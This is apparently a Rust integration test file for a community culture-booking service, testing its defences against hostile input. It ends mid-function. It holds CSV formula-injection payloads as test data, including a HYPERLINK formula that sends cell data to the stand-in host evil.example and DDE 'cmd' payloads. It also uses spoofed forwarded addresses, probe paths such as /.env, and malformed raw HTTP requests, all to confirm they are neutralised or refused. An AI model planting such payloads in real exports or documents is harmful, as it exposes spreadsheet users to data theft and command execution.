//! Hostile input and abuse (issue 10, items 7–11): formula injection in exports, control
//! characters in text, sign-in limits behind a proxy, the metrics endpoint, and the smaller
//! hardening of headers, limits and scans — on SQLite and on PostgreSQL + Redis.

use culturehub::access::Role;
use culturehub_tests::{both, error_code, Act, TestApp};
use serde_json::{json, Value};

/// What a hostile resident types, each a formula (or a formula after the first character).
const HOSTILE: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 制表符开头",
    "\r=1+1 回车开头",
];

/// Downloads a CSV export and answers its records (BOM removed), asserting the download
/// headers on the way.
async fn csv_records(app: &TestApp, path: &str, token: &str) -> Vec<Vec<String>> {
    let (status, headers, body) = app.fetch(path, Some(token)).await;
    assert_eq!(status, 200, "{path}: {}", String::from_utf8_lossy(&body));
    assert!(
        headers["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv"),
        "{path}"
    );
    let text = String::from_utf8(body).expect("utf-8");
    let text = text.strip_prefix('\u{feff}').expect("BOM");
    let mut rdr = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes());
    rdr.records()
        .map(|r| r.expect("valid CSV").iter().map(str::to_string).collect())
        .collect()
}

/// No cell of the export starts with a character that makes a spreadsheet evaluate it.
fn assert_no_formula(path: &str, records: &[Vec<String>]) {
    for (i, row) in records.iter().enumerate() {
        for cell in row {
            if let Some(c) = cell.chars().next() {
                assert!(
                    !['=', '+', '-', '@', '\t', '\r'].contains(&c),
                    "{path} row {i}: cell {cell:?} would be a formula"
                );
            }
        }
    }
}

async fn exports_neutralise_formulas(app: &TestApp) {
    // A resident attends a session at Yuanling and rates it with a formula as the comment.
    let (activity, session) = app
        .activity(Act {
            starts_in_min: 30,
            capacity: Some(20),
            title: "书法公益讲座",
            ..Act::default()
        })
        .await;
    let (resident, _) = app.sign_in("o-formula-resident").await;
    let (s, b) = app.book(&resident, session, json!({})).await;
    assert_eq!(s, 200, "{b}");
    let booking = b["id"].as_i64().unwrap();
    let (admin, _) = app
        .staff("o-formula-admin", Role::CenterAdmin, "ft-main")
        .await;
    let (s, v) = app
        .post(
            &format!("/api/v1/sessions/{session}/checkin/manual"),
            Some(&admin),
            json!({"booking_id": booking}),
        )
        .await;
    assert_eq!(s, 200, "{v}");
    let (s, v) = app
        .post(
            "/api/v1/ratings",
            Some(&resident),
            json!({"booking_id": booking, "score": 1, "comment": HOSTILE[0]}),
        )
        .await;
    assert_eq!(s, 200, "{v}");
    let rating = v["id"].as_i64().unwrap();
    // A volunteer whose chosen name is a formula serves the session.
    let (vol, vol_id) = app
        .staff(
            "o-formula-volunteer",
            Role::Volunteer,
            "ft-p-yuanling-hongli",
        )
        .await;
    let (s, v) = app
        .call(
            "PATCH",
            "/api/v1/me",
            Some(&vol),
            Some(json!({"display_name": "=HYPERLINK(\"x\")"})),
        )
        .await;
    assert_eq!(s, 200, "{v}");
    let (s, v) = app
        .post(
            &format!("/api/v1/sessions/{session}/assignments"),
            Some(&admin),
            json!({"user_id": vol_id}),
        )
        .await;
    assert_eq!(s, 200, "{v}");
    let unit = app.unit_id("ft-b-yuanling").await;
    let year = &culturehub_tests::at(app, 30)[..4];
    let feedback = "/api/v1/feedback/export.csv".to_string();
    let ledger = format!("/api/v1/stats/ledger.csv?year={year}");
    let volunteers = format!("/api/v1/units/{unit}/volunteers.csv");
    let pool = app.state().db.pool();
    for hostile in HOSTILE {
        // The same hostile text as the comment, the activity's title and the volunteer's name.
        sqlx::query("UPDATE ratings SET comment = $1 WHERE id = $2")
            .bind(hostile)
            .bind(rating)
            .execute(pool)
            .await
            .unwrap();
        sqlx::query("UPDATE activities SET title = $1 WHERE id = $2")
            .bind(hostile)
            .bind(activity)
            .execute(pool)
            .await
            .unwrap();
        sqlx::query("UPDATE users SET display_name = $1 WHERE id = $2")
            .bind(hostile)
            .bind(vol_id)
            .execute(pool)
            .await
            .unwrap();
        let rows = csv_records(app, &feedback, &admin).await;
        assert_no_formula(&feedback, &rows);
        // The comment is still there in full, as text.
        assert!(
            rows.iter()
                .any(|r| r.iter().any(|c| *c == format!("'{hostile}"))),
            "feedback export lost the comment {hostile:?}: {rows:?}"
        );
        let rows = csv_records(app, &ledger, &admin).await;
        assert_no_formula(&ledger, &rows);
        assert!(
            rows.iter()
                .any(|r| r.iter().any(|c| *c == format!("'{hostile}"))),
            "ledger lost the title {hostile:?}: {rows:?}"
        );
        let rows = csv_records(app, &volunteers, &admin).await;
        assert_no_formula(&volunteers, &rows);
        assert_eq!(rows.len(), 2, "header and the one volunteer: {rows:?}");
    }
}
both!(exports_formula_safe, exports_neutralise_formulas);

/// A text input with a control character is a 422 in the one error shape, on both databases,
/// wherever it is sent; nothing is stored.
async fn control_characters_refused(app: &TestApp) {
    for q in ["%00", "a%00b", "%1B%5B31m", "%C2%85", "%7F"] {
        let (s, v) = app.get(&format!("/api/v1/activities?q={q}"), None).await;
        assert_eq!(s, 422, "?q={q}: {v}");
        assert_eq!(error_code(s, &v), "validation_failed");
        assert_eq!(v["error"]["details"]["field"], "q", "{v}");
    }
    let (s, v) = app.get("/api/v1/demands?status=%00", None).await;
    assert_eq!((s, error_code(s, &v).as_str()), (422, "validation_failed"));
    let (resident, uid) = app.sign_in("o-nul-resident").await;
    let (admin, _) = app.staff("o-nul-admin", Role::CenterAdmin, "ft-main").await;
    let point = app.unit_id("ft-p-yuanling-hongli").await;
    let cases: Vec<(&str, &str, &str, Value)> = vec![
        (
            "PATCH",
            "/api/v1/me",
            resident.as_str(),
            json!({"display_name": "小\u{0}明"}),
        ),
        (
            "POST",
            "/api/v1/me/family",
            resident.as_str(),
            json!({"name": "小\u{1}红", "relation": "child", "birth_date": "2018-05-01", "guardian_consent": true}),
        ),
        (
            "POST",
            "/api/v1/demands",
            resident.as_str(),
            json!({"kind": "lecture", "unit_id": point, "description": "希望开设书法课\u{0}程，周末"}),
        ),
        (
            "POST",
            "/api/v1/ratings",
            resident.as_str(),
            json!({"booking_id": 1, "score": 5, "comment": "很好\u{0}", "tags": ["老师\u{7f}专业"]}),
        ),
        (
            "POST",
            "/api/v1/activities",
            admin.as_str(),
            json!({"title": "书法\u{0}讲座", "kind": "lecture", "organizer_unit_id": point, "booking_mode": "fcfs", "sessions": []}),
        ),
        (
            "POST",
            "/api/v1/me/family",
            resident.as_str(),
            json!({"name": "小红", "relation": "child\u{9b}", "birth_date": "2018-05-01"}),
        ),
    ];
    for (method, path, token, body) in cases {
        let (s, v) = app
            .call(method, path, Some(token), Some(body.clone()))
            .await;
        assert_eq!(s, 422, "{method} {path} {body}: {v}");
        assert_eq!(error_code(s, &v), "validation_failed", "{path}");
        assert_eq!(v["error"]["details"]["reason"], "control_character");
    }
    // Nothing with a NUL was stored anywhere.
    let name: String = sqlx::query_scalar("SELECT display_name FROM users WHERE id = $1")
        .bind(uid)
        .fetch_one(app.state().db.pool())
        .await
        .unwrap();
    assert!(!name.contains('\u{0}'));
    assert_eq!(
        app.count("SELECT CAST(COUNT(*) AS BIGINT) FROM demands")
            .await,
        0
    );
    // Names made only of zero-width characters are empty.
    for blank in ["\u{200B}\u{200D}", " \u{FEFF} ", "\u{2060}"] {
        let (s, v) = app
            .call(
                "PATCH",
                "/api/v1/me",
                Some(&resident),
                Some(json!({"display_name": blank})),
            )
            .await;
        assert_eq!((s, error_code(s, &v).as_str()), (422, "validation_failed"));
        let (s, v) = app
            .post(
                "/api/v1/me/family",
                Some(&resident),
                json!({"name": blank, "relation": "child", "birth_date": "2018-05-01", "guardian_consent": true}),
            )
            .await;
        assert_eq!((s, error_code(s, &v).as_str()), (422, "validation_failed"));
    }
    // Ordinary text with line breaks and tabs still goes through.
    let (s, v) = app
        .post(
            "/api/v1/demands",
            Some(&resident),
            json!({"kind": "lecture", "unit_id": point, "description": "希望开设书法课程\n周末上午\t最好"}),
        )
        .await;
    assert_eq!(s, 200, "{v}");
    let (s, v) = app
        .call(
            "PATCH",
            "/api/v1/me",
            Some(&resident),
            Some(json!({"display_name": "王\u{200B}明"})),
        )
        .await;
    assert_eq!(s, 200, "{v}");
}
both!(control_characters, control_characters_refused);

/// Runs `$body(app)` on both databases with settings changed by `$tweak`.
macro_rules! both_with {
    ($name:ident, $body:path, $tweak:expr) => {
        mod $name {
            #[allow(unused_imports)]
            use super::*;
            #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
            async fn sqlite() {
                if let Some(app) = culturehub_tests::TestApp::start_with(
                    culturehub_tests::Backend::Sqlite,
                    stringify!($name),
                    $tweak,
                )
                .await
                {
                    ($body)(&app).await;
                    app.finish().await;
                }
            }
            #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
            async fn postgres() {
                if let Some(app) = culturehub_tests::TestApp::start_with(
                    culturehub_tests::Backend::Postgres,
                    stringify!($name),
                    $tweak,
                )
                .await
                {
                    ($body)(&app).await;
                    app.finish().await;
                }
            }
        }
    };
}

/// A POST as if through the reverse proxy for the client `from`.
async fn post_from(app: &TestApp, from: &str, path: &str, body: Value) -> (u16, Value) {
    let resp = app
        .http
        .post(format!("{}{}", app.url, path))
        .header("x-forwarded-for", from)
        .json(&body)
        .send()
        .await
        .unwrap();
    let status = resp.status().as_u16();
    let text = resp.text().await.unwrap();
    (
        status,
        serde_json::from_str(&text).unwrap_or(Value::String(text)),
    )
}

/// Behind the proxy, one client's wrong codes lock out that client, not everyone; the
/// forwarded address is believed only from the configured proxy; per-person limits stay.
async fn signin_limits_per_client(app: &TestApp) {
    let attacker = "203.0.113.66";
    let mut limited = 0;
    for i in 0..35 {
        let (s, v) = post_from(
            app,
            attacker,
            "/api/v1/auth/wechat",
            json!({"code": format!("forged-{i}")}),
        )
        .await;
        match s {
            400 => assert_eq!(error_code(s, &v), "wechat_code_invalid"),
            429 => {
                assert_eq!(error_code(s, &v), "rate_limited");
                limited += 1;
            }
            _ => panic!("unexpected {s}: {v}"),
        }
    }
    assert_eq!(limited, 5, "the 31st wrong code and after are refused");
    // Even a valid code from the attacker's address waits now…
    let code = app.fake().issue_login_code("o-attacker-real");
    let (s, _) = post_from(app, attacker, "/api/v1/auth/wechat", json!({"code": code})).await;
    assert_eq!(s, 429);
    // … but another resident behind the same proxy signs in.
    let code = app.fake().issue_login_code("o-honest-resident");
    let (s, v) = post_from(
        app,
        "198.51.100.7",
        "/api/v1/auth/wechat",
        json!({"code": code}),
    )
    .await;
    assert_eq!(s, 200, "an honest resident is locked out: {v}");
    // Anonymous writes too are counted per client (100 a minute here; 36 sign-ins so far).
    for _ in 0..64 {
        post_from(app, attacker, "/api/v1/auth/logout", json!({})).await;
    }
    let (s, v) = post_from(app, attacker, "/api/v1/auth/logout", json!({})).await;
    assert_eq!((s, error_code(s, &v).as_str()), (429, "rate_limited"));
    let (s, v) = post_from(app, "198.51.100.8", "/api/v1/auth/logout", json!({})).await;
    assert_eq!((s, error_code(s, &v).as_str()), (401, "unauthenticated"));
    // Per person: the same account signing in again and again is still limited.
    let mut statuses = Vec::new();
    for i in 0..31 {
        let code = app.fake().issue_login_code("o-busy-resident");
        let (s, _) = post_from(
            app,
            &format!("198.51.100.{}", 20 + i),
            "/api/v1/auth/wechat",
            json!({"code": code}),
        )
        .await;
        statuses.push(s);
    }
    assert!(statuses[..30].iter().all(|s| *s == 200), "{statuses:?}");
    assert_eq!(statuses[30], 429);
}
both_with!(
    signin_behind_proxy,
    signin_limits_per_client,
    |s: &mut culturehub::config::Settings| {
        s.trusted_proxies = vec!["127.0.0.1".into()];
        s.rate_limit.signin_per_minute = 30;
        s.rate_limit.signin_per_minute_per_ip = 300;
        s.rate_limit.writes_per_minute_per_ip = 100;
    }
);

/// Without a configured proxy, `X-Forwarded-For` is the client's own claim and is ignored:
/// changing it on every request does not escape the limit.
async fn forwarded_for_not_trusted(app: &TestApp) {
    let mut limited = 0;
    for i in 0..32 {
        let (s, _) = post_from(
            app,
            &format!("192.0.2.{i}"),
            "/api/v1/auth/wechat",
            json!({"code": format!("forged-{i}")}),
        )
        .await;
        if s == 429 {
            limited += 1;
        }
    }
    assert_eq!(limited, 2);
}
both_with!(
    forwarded_for_ignored,
    forwarded_for_not_trusted,
    |s: &mut culturehub::config::Settings| {
        s.rate_limit.signin_per_minute = 30;
    }
);

/// Checks one sample line of the Prometheus text format: `name{k="v",…} number`, with `\\`,
/// `\"` and `\n` the only escapes inside values.
fn valid_sample(line: &str) -> bool {
    let Some((name, rest)) = line.split_once('{') else {
        let mut parts = line.split(' ');
        return parts.next().is_some_and(|n| !n.is_empty())
            && parts.next().is_some_and(|v| v.parse::<f64>().is_ok())
            && parts.next().is_none();
    };
    if name.is_empty() || !name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
        return false;
    }
    let mut chars = rest.chars().peekable();
    loop {
        let key: String = std::iter::from_fn(|| chars.next_if(|c| *c != '=')).collect();
        if key.is_empty() || !key.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
            return false;
        }
        if chars.next() != Some('=') || chars.next() != Some('"') {
            return false;
        }
        loop {
            match chars.next() {
                Some('\\') => {
                    if !matches!(chars.next(), Some('\\' | '"' | 'n')) {
                        return false;
                    }
                }
                Some('"') => break,
                Some('\n') | None => return false,
                Some(_) => {}
            }
        }
        match chars.next() {
            Some(',') => continue,
            Some('}') => break,
            _ => return false,
        }
    }
    let tail: String = chars.collect();
    tail.strip_prefix(' ')
        .is_some_and(|v| v.parse::<f64>().is_ok() || v == "+Inf")
}

async fn metrics_text(app: &TestApp, token: Option<&str>) -> (u16, String) {
    let (s, _, body) = app.fetch("/metrics", token).await;
    (s, String::from_utf8(body).unwrap())
}

/// Junk paths and methods add no series; every line stays valid exposition text.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn metrics_labels_bounded_and_escaped() {
    let Some(app) =
        TestApp::start(culturehub_tests::Backend::Sqlite, "metrics_labels_bounded").await
    else {
        return;
    };
    // Warm up the series real traffic makes.
    app.get("/api/v1/org/tree", None).await;
    app.get("/api/v1/org/units/1", None).await;
    app.get("/api/v1/org/units/999999", None).await;
    app.get("/api/v1/nowhere", None).await;
    app.call("BREW", "/api/v1/org/tree", None, None).await;
    let (s, before) = metrics_text(&app, None).await;
    assert_eq!(s, 200);
    let series = |t: &str| {
        t.lines()
            .filter(|l| l.starts_with("culturehub_http_requests_total{"))
            .count()
    };
    let junk = |i: usize| {
        let path = match i % 6 {
            0 => format!("/wp-admin/{i}.php"),
            1 => format!("/api/v1/nope{i}"),
            2 => format!("/api/v1/org/units/{i}x%22%7D%20evil"),
            3 => format!("/api/v1/org/units/\"{i}\""),
            4 => format!("/.env{i}"),
            _ => format!("/api/v1/org/units/{i}/../../{i}"),
        };
        let method = if i % 2 == 1 {
            format!("JUNK{i}")
        } else {
            "GET".to_string()
        };
        (method, path)
    };
    for i in 0..300 {
        let (m, p) = junk(i);
        app.call(&m, &p, None, None).await;
    }
    let (_, first) = metrics_text(&app, None).await;
    // A few new (route, method, status) combinations at most…
    assert!(
        series(&first) <= series(&before) + 6,
        "junk added series: {} → {}\n{first}",
        series(&before),
        series(&first)
    );
    // … and 300 more different junk requests add none at all.
    for i in 300..600 {
        let (m, p) = junk(i);
        app.call(&m, &p, None, None).await;
    }
    let (_, after) = metrics_text(&app, None).await;
    assert_eq!(series(&after), series(&first), "{after}");
    for bad in ["wp-admin", "nope", "evil", ".env", "JUNK"] {
        assert!(!after.contains(bad), "{bad} in labels:\n{after}");
    }
    for line in after.lines().filter(|l| !l.starts_with('#')) {
        assert!(valid_sample(line), "invalid exposition line: {line}");
    }
    assert!(
        after.contains("route=\"/api/v1/org/units/{id}\""),
        "{after}"
    );
    assert!(after.contains("route=\"unmatched\""));
    assert!(after.contains("method=\"OTHER\""));
    app.finish().await;
}

/// With a token, `/metrics` needs it; with a separate address, the main one has no metrics; in
/// production with neither, there are none on the main address.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn metrics_token_and_separate_address() {
    let token = "metrics-token-0123456789";
    let Some(app) = TestApp::start_with(culturehub_tests::Backend::Sqlite, "metrics_token", |s| {
        s.metrics.token = token.into();
    })
    .await
    else {
        return;
    };
    let (s, v) = app.get("/metrics", None).await;
    assert_eq!((s, error_code(s, &v).as_str()), (401, "unauthenticated"));
    assert_eq!(
        app.get("/metrics", Some("wrong-token-000000000")).await.0,
        401
    );
    let (s, text) = metrics_text(&app, Some(token)).await;
    assert_eq!(s, 200);
    assert!(text.contains("culturehub_http_requests_total"));
    app.finish().await;

    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let Some(app) = TestApp::start_with(culturehub_tests::Backend::Sqlite, "metrics_listen", |s| {
        s.metrics.listen = format!("127.0.0.1:{port}");
    })
    .await
    else {
        return;
    };
    let (s, v) = app.get("/metrics", None).await;
    assert_eq!((s, error_code(s, &v).as_str()), (404, "route_not_found"));
    let resp = app
        .http
        .get(format!("http://127.0.0.1:{port}/metrics"))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    assert!(resp
        .text()
        .await
        .unwrap()
        .contains("culturehub_http_requests_total"));
    app.finish().await;

    // Production (real WeChat) with neither setting: not on the main address.
    let Some(app) = TestApp::start_with(culturehub_tests::Backend::Sqlite, "metrics_prod", |s| {
        s.wechat.embedded_fake = false;
        s.wechat.base_url = "http://127.0.0.1:9".into();
        s.wechat.secret = "production-secret".into();
    })
    .await
    else {
        return;
    };
    let (s, v) = app.get("/metrics", None).await;
    assert_eq!((s, error_code(s, &v).as_str()), (404, "route_not_found"));
    app.finish().await;
}

/// Sends raw bytes on a new connection and answers what came back within `wait`.
async fn raw(app: &TestApp, bytes: &[u8], wait: std::time::Duration) -> String {
    raw_until(app, bytes, wait, "\"request_id\"").await
}

/// Like `raw`, reading until `until` has arrived (or `wait` passed).
async fn raw_until(app: &TestApp, bytes: &[u8], wait: std::time::Duration, until: &str) -> String {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let addr = app.url.trim_start_matches("http://").to_string();
    let mut s = tokio::net::TcpStream::connect(addr).await.unwrap();
    s.write_all(bytes).await.unwrap();
    let mut out = Vec::new();
    let _ = tokio::time::timeout(wait, async {
        let mut buf = [0u8; 4096];
        loop {
            match s.read(&mut buf).await {
                Ok(0) | Err(_) => break,
                Ok(n) => {
                    out.extend_from_slice(&buf[..n]);
                    if String::from_utf8_lossy(&out).contains(until) {
                        break;
                    }
                }
            }
        }
    })
    .await;
    String::from_utf8_lossy(&out).into_owned()
}

/// The JSON error body of a raw HTTP answer.
fn raw_error(answer: &str) -> (u16, Value) {
    let status: u16 = answer
        .split(' ')
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or_else(|| panic!("no status line: {answer:?}"));
    let body = answer.split("\r\n\r\n").nth(1).unwrap_or("");
    let v = serde_json::from_str(body).unwrap_or_else(|_| panic!("no JSON body: {answer:?}"));
    (status, v)
}

/// Security headers on everything, `no-store` on personal answers, `Allow` on 405, early 413,
/// slow bodies cut off, a control character in a header answered in the error shape, strict
/// text fields and filters.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn protocol_hardening() {
    let Some(app) = TestApp::start_with(culturehub_tests::Backend::Sqlite, "protocol", |s| {
        s.body_read_timeout_secs = 1;
    })
    .await
    else {
        return;
    };
    // Headers on every answer, errors included.
    for path in [
        "/api/v1/org/tree",
        "/healthz",
        "/api/v1/nowhere",
        "/openapi.json",
    ] {
        let (_, h, _) = app.fetch(path, None).await;
        assert_eq!(h["x-content-type-options"], "nosniff", "{path}");
        assert_eq!(h["referrer-policy"], "strict-origin-when-cross-origin");
        assert_eq!(h["x-frame-options"], "DENY");
        assert!(h["content-security-policy"]
            .to_str()
            .unwrap()
            .contains("frame-ancestors 'none'"));
    }
    // Tokens, /me, tickets, exports: never stored.
    let code = app.fake().issue_login_code("o-cache-resident");
    let resp = app
        .http
        .post(format!("{}/api/v1/auth/wechat", app.url))
        .json(&json!({"code": code}))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.headers()["cache-control"], "no-store");
    let token = resp.json::<Value>().await.unwrap()["token"]
        .as_str()
        .unwrap()
        .to_string();
    let (admin, _) = app
        .staff("o-cache-admin", Role::CenterAdmin, "ft-main")
        .await;
    let (_, session) = app.activity(Act::default()).await;
    let (_, b) = app.book(&token, session, json!({})).await;
    let booking = b["id"].as_i64().unwrap();
    for (path, who) in [
        ("/api/v1/me".to_string(), &token),
        (format!("/api/v1/bookings/{booking}/ticket"), &token),
        ("/api/v1/feedback/export.csv".to_string(), &admin),
        ("/api/v1/admin/invitations".to_string(), &admin),
    ] {
        let (s, h, _) = app.fetch(&path, Some(who)).await;
        assert!(s < 500, "{path}: {s}");
        assert!(
            h["cache-control"].to_str().unwrap().contains("no-store"),
            "{path}: {:?}",
            h["cache-control"]
        );
    }
    // 405 says what is allowed, in the error shape.
    let resp = app
        .http
        .delete(format!("{}/api/v1/org/tree", app.url))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 405);
    assert_eq!(resp.headers()["allow"], "GET, HEAD");
    let v: Value = resp.json().await.unwrap();
    assert_eq!(error_code(405, &v), "method_not_allowed");
    // An absurd declared length is refused before any of the body, whatever the method.
    for method in ["POST", "GET"] {
        let answer = raw(
            &app,
            format!("{method} /api/v1/demands HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 99999999999\r\n\r\n").as_bytes(),
            std::time::Duration::from_secs(3),
        )
        .await;
        let (s, v) = raw_error(&answer);
        assert_eq!(
            (s, error_code(s, &v).as_str()),
            (413, "body_too_large"),
            "{method}"
        );
    }
    // A body trickled too slowly is cut off with an answer.
    let started = std::time::Instant::now();
    let answer = raw(
        &app,
        b"POST /api/v1/demands HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{\"kind\":",
        std::time::Duration::from_secs(5),
    )
    .await;
    let (s, v) = raw_error(&answer);
    assert_eq!((s, error_code(s, &v).as_str()), (408, "body_timeout"));
    assert!(started.elapsed() < std::time::Duration::from_secs(4));
    // A control character in a header value: the error shape, not hyper's bare 400 — also for
    // the second request on a connection, after a body the guard must skip untouched.
    let answer = raw(
        &app,
        b"GET /api/v1/org/tree HTTP/1.1\r\nHost: x\r\nX-Note: a\x01b\r\n\r\n",
        std::time::Duration::from_secs(3),
    )
    .await;
    let (s, v) = raw_error(&answer);
    assert_eq!(
        (s, error_code(s, &v).as_str()),
        (400, "invalid_header"),
        "{answer}"
    );
    let answer = raw_until(
        &app,
        b"POST /api/v1/me/family HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}GET /api/v1/org/units/1 HTTP/1.1\r\nHost: x\r\nX-Note: \x7f\r\n\r\n",
        std::time::Duration::from_secs(3),
        "invalid_header",
    )
    .await;
    assert!(
        answer.matches("HTTP/1.1 ").count() == 2 && answer.contains("invalid_header"),
        "{answer}"
    );
    // Text fields take text: a number or a boolean is not quietly turned into a name.
    for bad in [
        json!({"display_name": 12345}),
        json!({"display_name": true}),
    ] {
        let (s, v) = app
            .call("PATCH", "/api/v1/me", Some(&token), Some(bad.clone()))
            .await;
        assert_eq!(
            (s, error_code(s, &v).as_str()),
            (400, "invalid_body"),
            "{bad}"
        );
        assert_eq!(v["error"]["details"]["field"], "display_name");
    }
    let (s, v) = app
        .post(
            "/api/v1/me/family",
            Some(&token),
            json!({"name": "小红", "relation": "child", "birth_date": 20180501}),
        )
        .await;
    assert_eq!((s, error_code(s, &v).as_str()), (400, "invalid_body"));
    // Unknown values in filters are 422, not an empty or unfiltered list.
    let unit = app.unit_id("ft-b-yuanling").await;
    for (path, who) in [
        ("/api/v1/demands?status=bogus".to_string(), None),
        ("/api/v1/demands?sort=bogus".to_string(), None),
        (
            "/api/v1/manage/demands?status=bogus".to_string(),
            Some(admin.as_str()),
        ),
        (
            format!("/api/v1/manage/activities?unit_id={unit}&status=bogus"),
            Some(admin.as_str()),
        ),
        (
            "/api/v1/feedback?kind=bogus".to_string(),
            Some(admin.as_str()),
        ),
        ("/api/v1/activities?kind=bogus".to_string(), None),
    ] {
        let (s, v) = app.get(&path, who).await;
        assert_eq!(
            (s, error_code(s, &v).as_str()),
            (422, "validation_failed"),
            "{path}"
        );
    }
    assert_eq!(
        app.get("/api/v1/demands?status=open&sort=newest", None)
            .await
            .0,
        200
    );
    app.finish().await;
}

/// A reused nonce with a forged ticket gets "not recognised", not the stored green answer;
/// joint organisers stay within the caller's line; demand posting and support are limited
/// per person.
async fn abuse_limits(app: &TestApp) {
    let (activity, session) = app
        .activity(Act {
            starts_in_min: 30,
            ..Act::default()
        })
        .await;
    let _ = activity;
    let (vol, vol_id) = app
        .staff("o-nonce-volunteer", Role::Volunteer, "ft-p-yuanling-hongli")
        .await;
    let (staff, _) = app
        .staff("o-nonce-staff", Role::BranchStaff, "ft-b-yuanling")
        .await;
    let (s, v) = app
        .post(
            &format!("/api/v1/sessions/{session}/assignments"),
            Some(&staff),
            json!({"user_id": vol_id}),
        )
        .await;
    assert_eq!(s, 200, "{v}");
    let (resident, _) = app.sign_in("o-nonce-resident").await;
    let (_, b) = app.book(&resident, session, json!({})).await;
    let booking = b["id"].as_i64().unwrap();
    let (_, ticket) = app
        .get(
            &format!("/api/v1/bookings/{booking}/ticket"),
            Some(&resident),
        )
        .await;
    let ticket = ticket["token"].as_str().unwrap().to_string();
    let scan = |t: String| {
        app.post(
            "/api/v1/checkin/scan",
            Some(&vol),
            json!({"session_id": session, "token": t, "nonce": "door-1"}),
        )
    };
    let (s, a) = scan(ticket.clone()).await;
    assert_eq!((s, a["result"].as_str()), (200, Some("admitted")), "{a}");
    // The honest retry gets the same answer.
    let (_, again) = scan(ticket.clone()).await;
    assert_eq!(again["result"], "admitted");
    // A forged ticket with the same nonce does not.
    let forged = format!("{}A", &ticket[..ticket.len() - 1]);
    let forged = if forged == ticket {
        format!("{}B", &ticket[..ticket.len() - 1])
    } else {
        forged
    };
    let (s, f) = scan(forged).await;
    assert_eq!(s, 200);
    assert_eq!(f["result"], "not_recognised", "{f}");
    assert_ne!(f["colour"], "green");

    // Joint organisers (D64, superseded by partner confirmation in the plans module): another
    // branch is off the caller's line and refused; the main center above is on the line and is
    // named as a pending partner that must confirm from its own inbox.
    let main = app.unit_id("ft-main").await;
    let nanyuan = app.unit_id("ft-b-nanyuan").await;
    let yuanling = app.unit_id("ft-b-yuanling").await;
    let point = app.unit_id("ft-p-yuanling-hongli").await;
    let body = |joint: Vec<i64>| {
        json!({
            "title": "联合主办讲座", "kind": "lecture", "organizer_unit_id": yuanling,
            "booking_mode": "fcfs", "joint_unit_ids": joint,
            "sessions": [{"unit_id": point,
                "starts_at": culturehub_tests::at(app, 3000), "ends_at": culturehub_tests::at(app, 3090), "capacity": 10}],
        })
    };
    let (s, v) = app
        .post("/api/v1/activities", Some(&staff), body(vec![nanyuan]))
        .await;
    assert_eq!((s, error_code(s, &v).as_str()), (422, "partner_off_line"));
    let (s, v) = app
        .post("/api/v1/activities", Some(&staff), body(vec![main]))
        .await;
    assert_eq!(s, 200, "{v}");
    let (s, v) = app
        .post("/api/v1/activities", Some(&staff), body(vec![point]))
        .await;
    assert_eq!(s, 200, "{v}");

    // Demand posting: 3 an hour here.
    let mut statuses = Vec::new();
    for i in 0..4 {
        let (s, _) = app
            .post(
                "/api/v1/demands",
                Some(&resident),
                json!({"kind": "lecture", "unit_id": point, "description": format!("希望开设书法课程，第{i}个")}),
            )
            .await;
        statuses.push(s);
    }
    assert_eq!(statuses, vec![200, 200, 200, 429]);
    // Support: 2 a minute here.
    let mut ids = Vec::new();
    for i in 0..3 {
        let (t, _) = app.sign_in(&format!("o-demand-poster-{i}")).await;
        let (s, v) = app
            .post(
                "/api/v1/demands",
                Some(&t),
                json!({"kind": "training", "unit_id": point, "description": format!("希望开设舞蹈培训，第{i}个")}),
            )
            .await;
        assert_eq!(s, 200, "{v}");
        ids.push(v["id"].as_i64().unwrap());
    }
    let (supporter, _) = app.sign_in("o-demand-supporter").await;
    let mut statuses = Vec::new();
    for id in ids {
        let (s, _) = app
            .post(
                &format!("/api/v1/demands/{id}/support"),
                Some(&supporter),
                json!({}),
            )
            .await;
        statuses.push(s);
    }
    assert_eq!(statuses, vec![200, 200, 429]);
}
both_with!(
    abuse,
    abuse_limits,
    |s: &mut culturehub::config::Settings| {
        s.rate_limit.demands_per_hour = 3;
        s.rate_limit.supports_per_minute = 2;
    }
);

/// The demand-update message opens a page the mini-program has, and tells the poster about
/// their demand and supporters about the demand they supported.
async fn demand_update_message(app: &TestApp) {
    let point = app.unit_id("ft-p-yuanling-hongli").await;
    let (poster, _) = app.sign_in("o-demand-own").await;
    let (fan, _) = app.sign_in("o-demand-fan").await;
    let (s, v) = app
        .post(
            "/api/v1/demands",
            Some(&poster),
            json!({"kind": "lecture", "unit_id": point, "description": "希望开设周末书法讲座"}),
        )
        .await;
    assert_eq!(s, 200, "{v}");
    let id = v["id"].as_i64().unwrap();
    let (s, v) = app
        .post(
            &format!("/api/v1/demands/{id}/support"),
            Some(&fan),
            json!({}),
        )
        .await;
    assert_eq!(s, 200, "{v}");
    for (who, t) in [("o-demand-own", &poster), ("o-demand-fan", &fan)] {
        app.fake().grant_subscription(who, "tmpl_demand_update", 5);
        let (s, v) = app
            .post(
                "/api/v1/me/subscriptions",
                Some(t),
                json!({"kinds": ["demand_update"]}),
            )
            .await;
        assert_eq!(s, 200, "{v}");
    }
    let (staff, _) = app
        .staff("o-demand-staff", Role::BranchStaff, "ft-b-yuanling")
